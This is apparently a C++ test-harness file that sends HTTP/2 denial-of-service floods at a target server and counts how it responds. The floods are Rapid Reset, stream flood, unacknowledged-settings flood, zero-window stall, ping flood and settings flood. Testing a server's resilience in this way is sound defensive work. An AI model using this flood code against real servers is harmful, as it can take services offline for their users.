// SPDX-License-Identifier: Apache-2.0
// What a peer can do with whole frames.
#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "tests/hostile/attack.h"
#include "tests/hostile/http2_peer.h"

namespace provisioning {
namespace {

// Sent together.
constexpr int frames_per_write = 100;
constexpr absl::Duration answer_max = absl::Seconds(20);

std::string OpenStream(std::uint32_t stream) {
  return Frame(FrameType::kHeaders, flag_end_headers, stream, CallHeaders(attacked_method));
}

std::string Report(Http2Peer& peer, std::int64_t sent) {
  const bool is_answered = peer.IsAnswered(answer_max);
  const Http2Peer::Counts& counts = peer.counts();
  return absl::StrCat("sent=", sent, " reset=", counts.streams_reset,
                      " refused=", counts.streams_refused, " answers=", counts.answers,
                      " go_aways=", counts.go_aways, " still_answered=", is_answered ? 1 : 0);
}

// `frames(i)` for each i below `count`, as far as the server takes them.
template <typename Frames>
std::string SendAll(Http2Peer& peer, std::int64_t count, const Frames& frames) {
  std::int64_t sent = 0;
  while (sent < count) {
    std::string bytes;
    std::int64_t upto = sent;
    while (upto < count && upto < sent + frames_per_write) bytes += frames(upto++);
    if (!peer.Send(bytes)) break;
    sent = upto;
  }
  return Report(peer, sent);
}

// Client streams have odd numbers.
std::uint32_t StreamNumber(std::int64_t i) { return static_cast<std::uint32_t>(2 * i + 1); }

std::string OpenStreams(const AttackOrders& orders, bool obeys) {
  Http2Peer peer(orders.target, orders.tls, obeys);
  // So that the limit is known, and acknowledged, before the flood.
  if (!peer.IsAnswered(answer_max)) return "sent=0";
  return SendAll(peer, orders.count, [](std::int64_t i) { return OpenStream(StreamNumber(i)); });
}

}  // namespace

std::string RapidReset(const AttackOrders& orders) {
  constexpr std::uint32_t cancel = 8;
  Http2Peer peer(orders.target, orders.tls, true);
  if (!peer.IsAnswered(answer_max)) return "sent=0";
  return SendAll(peer, orders.count, [](std::int64_t i) {
    return OpenStream(StreamNumber(i)) +
           Frame(FrameType::kResetStream, 0, StreamNumber(i), BigEndian32(cancel));
  });
}

std::string StreamFlood(const AttackOrders& orders) { return OpenStreams(orders, true); }

std::string UnacknowledgedSettings(const AttackOrders& orders) {
  return OpenStreams(orders, false);
}

std::string ZeroWindow(const AttackOrders& orders) {
  constexpr std::string_view no_window("\0\4\0\0\0\0", 6);  // SETTINGS_INITIAL_WINDOW_SIZE 0
  constexpr absl::Duration reset_max = absl::Seconds(10);
  Http2Peer peer(orders.target, orders.tls, true);
  peer.Send(Frame(FrameType::kSettings, 0, 0, no_window));
  if (!peer.IsAnswered(answer_max)) return "sent=0";
  for (std::int64_t i = 0; i < orders.count; ++i) {
    peer.Send(OpenStream(StreamNumber(i)) +
              Frame(FrameType::kData, 0, StreamNumber(i), start_bytes));
  }
  const absl::Time deadline = absl::Now() + reset_max;
  while (peer.counts().streams_reset < orders.count && absl::Now() < deadline && !peer.is_gone()) {
    peer.Listen(absl::Milliseconds(100));
  }
  return Report(peer, orders.count);
}

std::string PingFlood(const AttackOrders& orders) {
  Http2Peer peer(orders.target, orders.tls, true);
  return SendAll(peer, orders.count,
                 [](std::int64_t) { return Frame(FrameType::kPing, 0, 0, "abcdefgh"); });
}

std::string SettingsFlood(const AttackOrders& orders) {
  Http2Peer peer(orders.target, orders.tls, true);
  return SendAll(peer, orders.count,
                 [](std::int64_t) { return Frame(FrameType::kSettings, 0, 0, ""); });
}

}  // namespace provisioning
